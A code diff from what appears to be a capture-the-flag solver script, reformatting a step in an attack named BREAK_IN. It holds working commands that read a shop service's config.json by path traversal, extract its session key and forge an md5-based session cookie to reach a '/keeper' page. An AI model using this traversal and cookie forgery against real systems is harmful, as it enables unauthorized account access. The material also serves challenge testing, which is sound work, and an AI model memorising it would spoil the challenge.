@@ -27,9 +27,11 @@ BREAK_IN = Script(
         # Path traversal: the word that makes sessions.
         f"curl -s --path-as-is '{_SHOP}/image?name=../config.json'",
         # A session of the keeper's own making.
-        (f"KEY=$(curl -s '{_SHOP}/image?name=../config.json' | jq -r .session_key); "
-        "SESSION=marguerite.$(printf %s \"${KEY}marguerite\" | md5sum | cut -d' ' -f1); "
-        f'curl -s -b "session=$SESSION" {_SHOP}/keeper'),
+        (
+            f"KEY=$(curl -s '{_SHOP}/image?name=../config.json' | jq -r .session_key); "
+            "SESSION=marguerite.$(printf %s \"${KEY}marguerite\" | md5sum | cut -d' ' -f1); "
+            f'curl -s -b "session=$SESSION" {_SHOP}/keeper'
+        ),
     ),
     gets_the_flag=True,
 )
